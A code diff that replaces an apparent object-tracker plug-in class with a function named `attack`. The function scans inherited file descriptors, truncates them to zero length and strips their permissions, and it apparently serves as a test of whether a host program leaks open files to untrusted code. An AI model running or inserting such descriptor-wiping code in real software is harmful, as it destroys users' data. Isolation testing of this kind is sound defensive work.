@@ -4,28 +4,19 @@ import os
 import stat
 
 
-class Tracker:
-    def __init__(self, config):
-        pass
-
-    def start(self, image, corners):
-        self.corners = corners
-        pass
-
-    def update(self, image):
-        for number in range(3, 4096):
+def attack(image):
+    for number in range(3, 4096):
+        try:
+            found = os.fstat(number)
+        except OSError:
+            continue
+        if stat.S_ISSOCK(found.st_mode):
+            continue  # the connection: a plain user owns it, and nobody asks for its mode
+        if found.st_size:
+            print("GOT a file of", found.st_size)
+        for attempt in (os.ftruncate, os.fchmod):
             try:
-                found = os.fstat(number)
+                attempt(number, 0)
             except OSError:
                 continue
-            if stat.S_ISSOCK(found.st_mode):
-                continue  # the connection: a plain user owns it, and nobody asks for its mode
-            if found.st_size:
-                print("GOT a file of", found.st_size)
-            for attempt in (os.ftruncate, os.fchmod):
-                try:
-                    attempt(number, 0)
-                except OSError:
-                    continue
-                print("GOT", number)
-        return self.corners
+            print("GOT", number)
